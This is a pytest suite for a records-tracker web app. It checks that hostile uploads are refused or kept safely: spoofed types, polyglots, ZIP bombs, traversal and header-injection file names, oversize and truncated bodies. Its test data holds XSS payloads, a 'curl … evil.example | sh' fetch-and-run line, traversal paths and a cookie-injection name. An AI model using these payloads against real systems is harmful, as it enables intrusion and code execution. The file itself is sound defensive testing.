"""Hostile uploads, sent through the real forms: a request's upload form and the response form.

Spoofed types, polyglots, ZIP bombs, absurd file names, files over the size cap and bodies
cut off halfway. The rule behind every test: an upload is either stored whole and recorded,
or not at all. Whatever is refused or fails leaves no document row, no file in the storage
folder, no staged file and no "Added" event on the timeline; whatever is kept lives under a
generated key and is served only as a download that no browser runs.
"""

import gc
import hashlib
import io
import re
import socket
import struct
import tempfile
import threading
import time
import tracemalloc
import urllib.request
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote

import pytest
from flask import Flask, request
from flask.testing import FlaskClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markupsafe import escape
from sqlalchemy import event, func, select
from werkzeug.serving import make_server

from tests.conftest import Auth, blank_pdf, csrf_token
from tracker.auth.models import Role, User
from tracker.documents.models import AgencyResponse, Document
from tracker.documents.storage import LocalStorage
from tracker.extensions import db
from tracker.requests.models import RecordsRequest, RequestEvent, RequestStatus

KEY = r"[0-9a-f]{2}/[0-9a-f]{2}/[0-9a-f]{32}"
BOUNDARY = "hostile-upload-5c1d"
SAFE_DISPOSITION = r"(attachment|inline); filename\*=UTF-8''[A-Za-z0-9%._~-]+"
SCRIPTS_REFUSED = "Web pages, scripts and SVG files are not accepted; save it as PDF."
NOT_ACCEPTED = "This kind of file is not accepted."


# The desk: an advocate signed in, with a request of their own to upload to.


@dataclass
class Desk:
    app: Flask
    client: FlaskClient
    user: User
    record: RecordsRequest


@pytest.fixture
def desk(app, client, auth, make_user, make_request) -> Desk:
    user = make_user(Role.ADVOCATE)
    record = make_request(created_by=user, status=RequestStatus.SENT)
    auth.login(user)
    return Desk(app, client, user, record)


def filename_parameter(name: str) -> str:
    """As a browser writes a plain name; any other as RFC 7578 allows (RFC 5987 encoding)."""
    if name.isascii() and name.isprintable() and '"' not in name and "\\" not in name:
        return f'filename="{name}"'
    return f"filename*=UTF-8''{quote(name, safe='')}"


def multipart(fields: dict[str, str], files: list[tuple[str, bytes, str]]) -> bytes:
    """A form body written by hand, so names and types are exactly what an attacker sends."""
    body = b"".join(
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'.encode()
        for key, value in fields.items()
    )
    for name, data, media_type in files:
        body += (
            (
                f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="files"; '
                f"{filename_parameter(name)}\r\nContent-Type: {media_type}\r\n\r\n"
            ).encode()
            + data
            + b"\r\n"
        )
    return body + f"--{BOUNDARY}--\r\n".encode()


RESPONSE_FIELDS = {"kind": "acknowledgment", "received_on": "2026-03-02", "channel": "email"}
FORMS = ["upload", "response"]


def form_path(desk: Desk, form: str) -> str:
    reference = desk.record.reference
    if form == "upload":
        return f"/requests/{reference}/documents"
    return f"/requests/{reference}/responses/new"


def form_fields(desk: Desk, form: str) -> dict[str, str]:
    page = f"/requests/{desk.record.reference}" if form == "upload" else form_path(desk, form)
    fields = {"csrf_token": csrf_token(desk.client, page)}
    return fields if form == "upload" else {**fields, **RESPONSE_FIELDS}


def upload(desk: Desk, files: list[tuple[str, bytes, str]], form: str = "upload") -> Any:
    """Post files through a form; returns the answer and, after a redirect, the next page."""
    response = desk.client.post(
        form_path(desk, form),
        data=multipart(form_fields(desk, form), files),
        content_type=f"multipart/form-data; boundary={BOUNDARY}",
    )
    assert response.status_code == 302, response.status_code
    page = desk.client.get(response.headers["Location"]).get_data(as_text=True)
    return page


def documents_folder(app: Flask) -> Path:
    return Path(app.instance_path) / "documents"


def files_kept(app: Flask) -> list[Path]:
    """Every file in the storage folder, the staging folder included."""
    folder = documents_folder(app)
    return sorted(p for p in folder.rglob("*") if p.is_file()) if folder.exists() else []


def documents() -> list[Document]:
    return list(db.session.scalars(select(Document).order_by(Document.id)))


def added_events(record: RecordsRequest) -> list[str]:
    notes = db.session.scalars(
        select(RequestEvent.note).where(RequestEvent.request_id == record.id)
    ).all()
    return [note for note in notes if note.startswith("Added")]


def assert_nothing_kept(desk: Desk) -> None:
    assert documents() == []
    assert files_kept(desk.app) == []
    assert added_events(desk.record) == []


def assert_kept_whole(desk: Desk, document: Document, data: bytes) -> Path:
    """The one file on disk is the document's, under its generated key, byte for byte."""
    folder = documents_folder(desk.app)
    kept = [p for p in files_kept(desk.app) if document.storage_key in p.as_posix()]
    assert len(kept) == 1
    assert kept[0].relative_to(folder).as_posix() == document.storage_key
    assert kept[0].read_bytes() == data
    return kept[0]


# Spoofed types: a web page, an SVG, a script or a program dressed up as a PDF.

SPOOFED = {
    "html page named .pdf": (
        "report.pdf",
        b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
        SCRIPTS_REFUSED,
    ),
    "html after a byte-order mark": (
        "report.pdf",
        b"\xef\xbb\xbf\n  <html><script>alert(1)</script></html>",
        SCRIPTS_REFUSED,
    ),
    "html that opens with a comment": (
        "report.pdf",
        b"<!-- saved from the portal --><p>Hi<script>alert(1)</script>",
        SCRIPTS_REFUSED,
    ),
    "html fragment": ("release.pdf", b"<div onmouseover=alert(1)>Records</div>", SCRIPTS_REFUSED),
    "svg with script": (
        "chart.png",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        SCRIPTS_REFUSED,
    ),
    "svg with an xml prolog": (
        "scan.pdf",
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        SCRIPTS_REFUSED,
    ),
    "shell script": ("report.pdf", b"#!/bin/sh\ncurl -s https://evil.example/x | sh\n",
                     SCRIPTS_REFUSED),
    "python script": ("minutes.pdf", b"#!/usr/bin/env python3\nimport os\nos.system('id')\n",
                      SCRIPTS_REFUSED),
    "linux program": ("report.pdf", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200, NOT_ACCEPTED),
    "windows program": (
        "report.pdf",
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200,
        NOT_ACCEPTED,
    ),
    "empty file": ("release.pdf", b"", "The file is empty."),
    "only whitespace": ("release.pdf", b" \r\n\t \n", "The file is empty."),
    "html in utf-16": ("report.pdf", "\ufeff<html><script>alert(1)</script>".encode("utf-16-le"),
                       NOT_ACCEPTED),
}  # fmt: skip


@pytest.mark.parametrize("form", FORMS)
def test_a_spoofed_type_is_refused_with_a_message_and_nothing_is_kept(desk, form):
    # The browser's word counts for nothing: it swears each of these is a PDF.
    files = [(f"{case} {name}", data, "application/pdf")
             for case, (name, data, _) in SPOOFED.items()]  # fmt: skip
    page = upload(desk, files, form)
    for case, (name, _, reason) in SPOOFED.items():
        assert escape(f"Not stored: “{case} {name}”. {reason}") in page, case
    assert "Stored " not in page
    assert_nothing_kept(desk)
    if form == "response":  # the response itself is logged; only its files are refused
        assert db.session.scalar(select(func.count()).select_from(AgencyResponse)) == 1


def test_one_refused_file_does_not_stop_the_others(desk):
    page = upload(desk, [("page.pdf", SPOOFED["html page named .pdf"][1], "application/pdf"),
                         ("release.pdf", blank_pdf(), "application/pdf")])  # fmt: skip
    assert "Stored 1 file(s)." in page and "Not stored: “page.pdf”." in page
    [document] = documents()
    assert document.original_filename == "release.pdf"
    assert_kept_whole(desk, document, blank_pdf())
    [added] = added_events(desk.record)
    assert added.startswith("Added “release.pdf” (PDF,")


def test_a_nul_byte_past_the_sniffed_head_is_kept_out_of_the_searchable_text(desk):
    # The type is judged from the first 8 KB; a NUL further on must not break the save
    # (PostgreSQL's text columns refuse NUL characters).
    data = b"Plain words from the clerk.\n" * 400 + b"\x00hidden\x00\n"
    page = upload(desk, [("log.txt", data, "text/plain")])
    assert "Stored 1 file(s)." in page
    [document] = documents()
    assert document.media_type == "text/plain"
    assert "\x00" not in document.text and "hidden" in document.text
    assert_kept_whole(desk, document, data)


# Polyglots: files that are two things at once are kept as the harmless one and never
# served as something a browser runs.

ZIP_PAYLOAD = io.BytesIO()
with zipfile.ZipFile(ZIP_PAYLOAD, "w") as _archive:
    _archive.writestr("index.html", "<script>alert(1)</script>")

POLYGLOTS = {
    "pdf header, html body": (
        b"%PDF-1.4\n<html><body><script>alert(document.domain)</script></body></html>\n",
        "application/pdf",
        True,
    ),
    "pdf with html appended": (
        blank_pdf() + b"<html><script>alert(1)</script></html>",
        "application/pdf",
        True,
    ),
    "gif that is also javascript": (
        b"GIF89a/*\x01\x00\x01\x00\x00\xff\x00,*/=1;alert(document.domain);//",
        "image/gif",
        True,
    ),
    "jpeg with a zip appended": (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 64 + b"\xff\xd9" + ZIP_PAYLOAD.getvalue(),
        "image/jpeg",
        True,
    ),
    "text with a script after the first line": (
        b"Call log, March\n<script>alert(1)</script>\n",
        "text/plain",
        False,
    ),
}


def assert_served_as_a_download(response, media_type: str, data: bytes) -> None:
    assert response.status_code == 200
    assert response.mimetype == media_type
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    csp = response.headers["Content-Security-Policy"]
    assert "sandbox" in csp and "default-src 'none'" in csp
    assert response.data == data


def test_a_polyglot_is_kept_as_its_harmless_type_and_never_served_as_html(desk):
    page = upload(desk, [(f"{case}.html", data, "text/html")
                         for case, (data, _, _) in POLYGLOTS.items()])  # fmt: skip
    assert f"Stored {len(POLYGLOTS)} file(s)." in page
    kept = {document.title: document for document in documents()}
    for case, (data, media_type, previews) in POLYGLOTS.items():
        document = kept[case]
        assert document.media_type == media_type, case
        assert_kept_whole(desk, document, data)
        assert_served_as_a_download(
            desk.client.get(f"/documents/{document.id}/download"), media_type, data
        )
        view = desk.client.get(f"/documents/{document.id}/view")
        page = desk.client.get(f"/documents/{document.id}").get_data(as_text=True)
        if previews:
            # Only PDFs and images preview: inline, in a sandbox, framed by this site alone.
            assert view.status_code == 200 and view.mimetype == media_type, case
            assert view.headers["Content-Disposition"].startswith("inline;")
            assert view.headers["X-Content-Type-Options"] == "nosniff"
            csp = [d.strip() for d in view.headers["Content-Security-Policy"].split(";")]
            assert "sandbox" in csp and "default-src 'none'" in csp
            assert "frame-ancestors 'self'" in csp
            assert '<iframe class="document-preview"' in page and " sandbox " in page
        else:
            assert view.status_code == 404, case
            assert "<iframe" not in page


def test_the_preview_refuses_anything_but_a_pdf_or_a_browser_image(desk):
    samples = {
        "text/plain": b"Nothing to see <b>here</b>\n",
        "text/csv": b"a,b\n1,2\n3,4\n",
        "message/rfc822": b"From: a@example.org\nTo: b@example.org\nSubject: x\n\nHello\n",
        "application/zip": ZIP_PAYLOAD.getvalue(),
        "image/tiff": b"II*\x00" + b"\x00" * 64,
    }
    names = {kind.replace("/", "-"): kind for kind in samples}
    upload(
        desk, [(f"{name}.pdf", samples[kind], "application/pdf") for name, kind in names.items()]
    )
    for document in documents():
        assert document.media_type == names[document.title]
        assert desk.client.get(f"/documents/{document.id}/view").status_code == 404
        download = desk.client.get(f"/documents/{document.id}/download")
        assert download.headers["Content-Disposition"].startswith("attachment;")
        assert download.headers["X-Content-Type-Options"] == "nosniff"
    assert len(documents()) == len(samples)


# ZIP bombs: a ZIP's listing is read from its directory; nothing in it is unpacked.


def zip_bytes(entries: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=method) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return buffer.getvalue()


def claim_sizes(data: bytes, size: int) -> bytes:
    """Rewrite a ZIP's directory so every entry claims to unpack to ``size`` bytes."""
    patched = bytearray(data)
    start = 0
    while (at := patched.find(b"PK\x01\x02", start)) != -1:
        struct.pack_into("<I", patched, at + 24, size)
        start = at + 4
    return bytes(patched)


def peak_memory_of(call) -> tuple[Any, int]:
    tracemalloc.start()
    try:
        result = call()
        return result, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


MB = 1024 * 1024


def test_a_zip_bomb_is_listed_not_unpacked(desk):
    """64 MB of zeros in each of two entries, one named as an OpenDocument's type is."""
    size = 64 * MB
    bomb = zip_bytes([("mimetype", bytes(size)), ("payload.bin", bytes(size))])
    assert len(bomb) < 200 * 1024

    page, peak = peak_memory_of(lambda: upload(desk, [("usb.zip", bomb, "application/zip")]))
    assert "Stored 1 file(s)." in page
    # Unpacking either entry would hold 64 MB; reading the directory holds next to nothing.
    assert peak < 16 * MB, f"{peak / MB:.0f} MB"
    [document] = documents()
    assert document.media_type == "application/zip"
    assert document.text == f"mimetype\t{size}\npayload.bin\t{size}"
    assert len(files_kept(desk.app)) == 1

    started = time.monotonic()
    page = desk.client.get(f"/documents/{document.id}").get_data(as_text=True)
    assert time.monotonic() - started < 2
    assert "payload.bin" in page and "67,108,864" in page


def test_a_zip_whose_directory_lies_about_sizes_is_listed_as_it_claims(desk):
    liar = claim_sizes(zip_bytes([("a.txt", b"short"), ("b.txt", b"also short")]), 0xFFFFFFF0)
    page = upload(desk, [("liar.zip", liar, "application/zip")])
    assert "Stored 1 file(s)." in page
    [document] = documents()
    page = desk.client.get(f"/documents/{document.id}").get_data(as_text=True)
    assert page.count("4,294,967,280") == 2
    assert_kept_whole(desk, document, liar)


def test_a_zip_of_thousands_of_entries_shows_a_capped_listing(desk):
    from tracker.documents.services import ZIP_LISTING_LIMIT

    many = zip_bytes([(f"scans/{n:05}.pdf", b"") for n in range(5000)], zipfile.ZIP_STORED)
    upload(desk, [("many.zip", many, "application/zip")])
    [document] = documents()
    started = time.monotonic()
    page = desk.client.get(f"/documents/{document.id}").get_data(as_text=True)
    assert time.monotonic() - started < 5
    assert page.count("<tr><td>scans/") == ZIP_LISTING_LIMIT
    assert f"scans/{ZIP_LISTING_LIMIT - 1:05}.pdf" in page
    assert f"scans/{ZIP_LISTING_LIMIT:05}.pdf" not in page
    assert f"… and {5000 - ZIP_LISTING_LIMIT} more entries" in page


def test_traversal_deep_and_hostile_names_in_a_zip_are_shown_as_harmless_text(desk):
    names = [
        "../../../../etc/cron.d/evil",
        "..\\..\\windows\\system32\\evil.dll",
        "/absolute/path.txt",
        "/".join(["deep"] * 300) + "/file.txt",
        "<img src=x onerror=alert(1)>.txt",
        "tab\tand\nnewline.txt",
    ]
    archive = zip_bytes([(name, b"x") for name in names])
    upload(desk, [("names.zip", archive, "application/zip")])
    [document] = documents()
    page = desk.client.get(f"/documents/{document.id}").get_data(as_text=True)
    assert "../../../../etc/cron.d/evil" in page
    assert "..\\..\\windows\\system32\\evil.dll" in page
    assert "&lt;img src=x onerror=alert(1)&gt;.txt" in page
    assert "<img src=x" not in page
    # Nothing was unpacked anywhere: the instance holds the ZIP itself and nothing else.
    instance = Path(desk.app.instance_path)
    assert [p for p in instance.rglob("*") if p.is_file() and "documents" in p.parts] == [
        documents_folder(desk.app) / document.storage_key
    ]
    assert not any(instance.rglob("evil*")) and not any(instance.rglob("deep"))


# Absurd file names: kept for display only, cleaned; on disk the file has a generated key.

ABSURD_NAMES = {
    "very long": ("a" * 1200 + ".pdf", "a" * 200),
    "path traversal": ("../../etc/passwd", "passwd"),
    "windows traversal": ("..\\..\\Windows\\System32\\drivers\\etc\\hosts", "hosts"),
    "nul byte": ("report.pdf\x00.html", "report.pdf.html"),
    "control characters": ("\x1b[31mred\x07\x08.pdf", "[31mred.pdf"),
    "right-to-left override": ("invoice\u202efdp.exe", "invoicefdp.exe"),
    "only dots": ("....", "unnamed"),
    "dot dot": ("..", "unnamed"),
    "windows reserved": ("CON", "CON"),
    "windows reserved with extension": ("nul.txt", "nul.txt"),
    "emoji": ("📄 release 🦄.pdf", "📄 release 🦄.pdf"),
    "header injection": ("a.pdf\r\nSet-Cookie: session=stolen\r\n",
                         "a.pdfSet-Cookie: session=stolen"),
    "quotes and semicolons": ('x.pdf"; filename="evil.exe', 'x.pdf"; filename="evil.exe'),
    "markup": ("<img src=x onerror=alert(1)>.pdf", "<img src=x onerror=alert(1)>.pdf"),
    "only whitespace and controls": (" \t\x7f ", "unnamed"),
}  # fmt: skip


def assert_offered_safely(response, name: str) -> None:
    disposition = response.headers["Content-Disposition"]
    assert re.fullmatch(SAFE_DISPOSITION, disposition), disposition
    assert unquote(disposition.split("''", 1)[1]) == name
    # No header was made from the name: the only cookie is the session's own.
    assert all("stolen" not in value for value in response.headers.getlist("Set-Cookie"))
    for value in response.headers.values():
        assert "\r" not in value and "\n" not in value


def test_an_absurd_name_is_cleaned_shown_escaped_and_never_used_on_disk(desk):
    files = [(given, f"Released under the CPRA ({case}).\n".encode(), "text/plain")
             for case, (given, _) in ABSURD_NAMES.items()]  # fmt: skip
    page = upload(desk, files)
    assert f"Stored {len(ABSURD_NAMES)} file(s)." in page
    kept = documents()
    assert len(kept) == len(ABSURD_NAMES)
    request_page = desk.client.get(f"/requests/{desk.record.reference}").get_data(as_text=True)
    for (case, (_, shown)), (_, data, _), document in zip(
        ABSURD_NAMES.items(), files, kept, strict=True
    ):
        assert document.original_filename == shown, case
        assert re.fullmatch(KEY, document.storage_key), case
        assert_kept_whole(desk, document, data)
        page = desk.client.get(f"/documents/{document.id}").get_data(as_text=True)
        assert escape(shown) in page, case
        assert escape(shown) in request_page, case
        assert_offered_safely(desk.client.get(f"/documents/{document.id}/download"), shown)
    assert not any(ch in request_page for ch in "\u202e\x1b\x00\x07")


def test_an_empty_file_name_is_no_file_at_all(desk):
    page = upload(desk, [("", b"Orphan bytes with no name.\n", "text/plain")])
    assert "Choose one or more files to upload." in page
    assert_nothing_kept(desk)


def test_names_from_traversal_stay_flat_in_the_zip_of_all_documents(desk):
    upload(desk, [("../../etc/passwd", b"one\n", "text/plain"),
                  ("..\\..\\boot.ini", b"two\n", "text/plain"),
                  ("/".join([".."] * 20) + "/x", b"three\n", "text/plain")])  # fmt: skip
    response = desk.client.get(f"/requests/{desk.record.reference}/documents.zip")
    names = zipfile.ZipFile(io.BytesIO(response.data)).namelist()
    assert sorted(names) == ["boot.ini", "index.csv", "passwd", "x"]


@settings(
    max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(name=st.text(min_size=1, max_size=400))
def test_any_name_at_all_is_stored_under_a_key_and_offered_safely(desk, name):
    before = {d.id for d in documents()}
    data = f"Records for {name!r} and {len(before)}.\n".encode()
    upload(desk, [(name, data, "text/plain")])
    [document] = [d for d in documents() if d.id not in before]
    assert re.fullmatch(KEY, document.storage_key)
    shown = document.original_filename
    assert shown and len(shown) <= 200 and shown.isprintable()
    assert "/" not in shown and "\\" not in shown
    assert_offered_safely(desk.client.get(f"/documents/{document.id}/download"), shown)


# Size: each file is held to TRACKER_MAX_UPLOAD_MB; a whole upload to MAX_UPLOAD_REQUEST_MB.


@pytest.fixture
def small_desk(make_app, make_user, make_request, monkeypatch) -> Iterator[Desk]:
    monkeypatch.setenv("TRACKER_MAX_UPLOAD_MB", "1")
    small = make_app()
    user = make_user(Role.ADVOCATE)
    record = make_request(created_by=user)
    client = small.test_client()
    Auth(client).login(user)
    yield Desk(small, client, user, record)


@pytest.mark.parametrize("form", FORMS)
def test_a_file_over_the_cap_is_refused_with_a_message_and_nothing_is_kept(small_desk, form):
    assert small_desk.app.config["MAX_UPLOAD_MB"] == 1
    big = b"%PDF-1.4\n" + b"0" * (MB + 10)
    page = upload(small_desk, [("big.pdf", big, "application/pdf"),
                               ("small.pdf", blank_pdf(), "application/pdf")], form)  # fmt: skip
    assert "Not stored: “big.pdf”. It is larger than the 1 MB limit." in page
    assert "Stored 1 file(s)." in page
    [document] = documents()
    assert document.original_filename == "small.pdf"
    assert len(files_kept(small_desk.app)) == 1
    assert len(added_events(small_desk.record)) == 1


@pytest.mark.parametrize("path", ["/requests/{reference}/documents", "/requests/new"])
def test_a_file_is_not_kept_past_the_cap_while_the_form_is_read(small_desk, path):
    """One byte past the limit tells it is too large; the rest never reaches the disk.

    A view that takes no files keeps nothing of one.
    """
    path = path.format(reference=small_desk.record.reference)
    body = multipart({}, [("big.pdf", b"0" * (3 * MB), "application/pdf")])
    with small_desk.app.test_request_context(
        path,
        method="POST",
        input_stream=io.BytesIO(body),
        content_length=len(body),
        content_type=f"multipart/form-data; boundary={BOUNDARY}",
    ):
        request.max_content_length = 10 * MB
        stream = request.files["files"].stream
        stream.seek(0, io.SEEK_END)
        kept = stream.tell()
        stream.close()
    assert kept == (MB + 1 if path.endswith("documents") else 1)


def test_a_body_over_the_request_limit_gets_a_clean_413_page(desk):
    desk.app.config["MAX_UPLOAD_REQUEST_MB"] = 64 / 1024
    big = b"%PDF-1.4\n" + b"0" * 100_000
    body = multipart(form_fields(desk, "upload"), [("big.pdf", big, "application/pdf")])
    response = desk.client.post(
        form_path(desk, "upload"),
        data=body,
        content_type=f"multipart/form-data; boundary={BOUNDARY}",
    )
    page = response.get_data(as_text=True)
    assert response.status_code == 413
    assert "Too large" in page and "larger than the tracker accepts" in page
    assert "Traceback" not in page and "RequestEntityTooLarge" not in page
    assert_nothing_kept(desk)


# Bodies cut off halfway: the form is never half-read into a document.


def cut_body(desk: Desk, keep: int) -> bytes:
    data = b"%PDF-1.4\n" + b"0" * (3 * MB)
    body = multipart(form_fields(desk, "upload"), [("half.pdf", data, "application/pdf")])
    return body[:keep]


@pytest.fixture
def private_tmp(tmp_path, monkeypatch) -> Path:
    """The folder Python's temporary files go to, watched for strays."""
    folder = tmp_path / "tmp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


# Werkzeug leaves the spool of a part it could not finish to the garbage collector, which
# closes it (in memory, or an unlinked file): no name on disk, but Python warns.
UNFINISHED_PART = [
    "ignore:Unclosed file <tempfile.SpooledTemporaryFile:ResourceWarning",
    "ignore:Unclosed file <tracker.limits.CappedSpool:ResourceWarning",
    "ignore:unclosed file <_io.BufferedRandom:ResourceWarning",
]


@pytest.mark.filterwarnings(*UNFINISHED_PART)
@pytest.mark.parametrize("how", ["no closing boundary", "shorter than its Content-Length"])
def test_a_truncated_body_stores_nothing(desk, private_tmp, how):
    body = cut_body(desk, 2 * MB)
    length = len(body) if how == "no closing boundary" else len(body) + MB
    response = desk.client.post(
        form_path(desk, "upload"),
        input_stream=io.BytesIO(body),
        content_length=length,
        content_type=f"multipart/form-data; boundary={BOUNDARY}",
    )
    assert response.status_code == 400
    assert "This form had expired" in response.get_data(as_text=True)
    gc.collect()
    assert_nothing_kept(desk)
    assert list(private_tmp.iterdir()) == []


def test_a_truncated_body_leaves_no_file_without_waiting_for_the_garbage_collector(desk):
    """The file half-received into the staging folder goes with the request, at once."""
    body = cut_body(desk, 2 * MB)
    gc.collect()
    gc.disable()
    try:
        response = desk.client.post(
            form_path(desk, "upload"),
            input_stream=io.BytesIO(body),
            content_length=len(body),
            content_type=f"multipart/form-data; boundary={BOUNDARY}",
        )
        left = files_kept(desk.app)
    finally:
        gc.enable()
    assert response.status_code == 400
    assert left == []


@pytest.fixture
def served(app) -> Iterator[str]:
    """The app on a real socket, one request at a time."""
    server = make_server("127.0.0.1", 0, app, threaded=False)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    try:
        yield f"127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


@pytest.mark.filterwarnings(*UNFINISHED_PART)
def test_a_connection_dropped_mid_upload_stores_nothing(desk, served, private_tmp):
    body = cut_body(desk, 2 * MB)
    cookie = desk.client.get_cookie("session")
    assert cookie is not None
    host, port = served.split(":")
    head = (
        f"POST {form_path(desk, 'upload')} HTTP/1.1\r\nHost: {served}\r\n"
        f"Cookie: session={cookie.value}\r\n"
        f"Content-Type: multipart/form-data; boundary={BOUNDARY}\r\n"
        f"Content-Length: {len(body) + 2 * MB}\r\n\r\n"
    ).encode()
    with socket.create_connection((host, int(port))) as connection:
        connection.sendall(head + body)
        connection.shutdown(socket.SHUT_WR)  # the laptop lid closes
        answer = connection.recv(65536)
    assert answer.split(b" ", 2)[1] == b"400", answer[:200]
    # The server handles one request at a time: once this answers, that upload is over.
    with urllib.request.urlopen(f"http://{served}/healthz", timeout=10) as health:
        assert health.status == 200
    gc.collect()
    db.session.expire_all()
    assert_nothing_kept(desk)
    assert list(private_tmp.iterdir()) == []


# Failures midway: the bytes already stored go when the transaction that records them does.


class DiskFull:
    """Storage that keeps the first file, then runs out of space."""

    def __init__(self, monkeypatch) -> None:
        self.calls = 0
        real = LocalStorage.put

        def put(storage: LocalStorage, staged) -> str:
            self.calls += 1
            if self.calls > 1:
                raise OSError(28, "No space left on device")
            return real(storage, staged)

        monkeypatch.setattr(LocalStorage, "put", put)


@pytest.mark.parametrize("form", FORMS)
def test_an_upload_that_fails_midway_keeps_nothing_not_even_the_first_file(desk, monkeypatch,
                                                                         form):  # fmt: skip
    disk = DiskFull(monkeypatch)
    response = desk.client.post(
        form_path(desk, form),
        data=multipart(form_fields(desk, form), [("one.pdf", blank_pdf(), "application/pdf"),
                                                 ("two.txt", b"second\n", "text/plain")]),
        content_type=f"multipart/form-data; boundary={BOUNDARY}",
    )  # fmt: skip
    assert disk.calls == 2
    assert response.status_code == 500
    assert "No space left" not in response.get_data(as_text=True)
    assert_nothing_kept(desk)
    # The response it came with is not logged either, and the request has not moved on.
    assert db.session.scalar(select(func.count()).select_from(AgencyResponse)) == 0
    db.session.refresh(desk.record)
    assert desk.record.status == RequestStatus.SENT


def test_a_commit_that_fails_after_the_files_are_stored_removes_them(desk, monkeypatch):
    stored: list[str] = []
    real_put = LocalStorage.put

    def put(storage, staged):
        stored.append(real_put(storage, staged))
        return stored[-1]

    def refuse(session):
        if stored:
            raise OSError("the database went away")

    monkeypatch.setattr(LocalStorage, "put", put)
    event.listen(db.session, "before_commit", refuse)
    try:
        response = desk.client.post(
            form_path(desk, "upload"),
            data=multipart(form_fields(desk, "upload"),
                           [("one.pdf", blank_pdf(), "application/pdf"),
                            ("two.txt", b"second\n", "text/plain")]),
            content_type=f"multipart/form-data; boundary={BOUNDARY}",
        )  # fmt: skip
    finally:
        event.remove(db.session, "before_commit", refuse)
    assert len(stored) == 2
    assert response.status_code == 500
    assert_nothing_kept(desk)


def test_an_upload_that_succeeds_is_whole_on_disk_and_recorded(desk):
    data = blank_pdf("Kept whole")
    upload(desk, [("kept.pdf", data, "application/pdf")])
    [document] = documents()
    path = assert_kept_whole(desk, document, data)
    assert path.stat().st_size == document.size
    assert hashlib.sha256(path.read_bytes()).hexdigest() == document.sha256
    assert added_events(desk.record) == [
        f"Added “kept.pdf” (PDF, {len(data):,} bytes). Its text is being read."
    ]
    # The text is read by a job, which records what it found.
    notes = db.session.scalars(
        select(RequestEvent.note).where(RequestEvent.request_id == desk.record.id)
    ).all()
    assert "Read the text of “kept”: it has no text layer and needs OCR." in notes
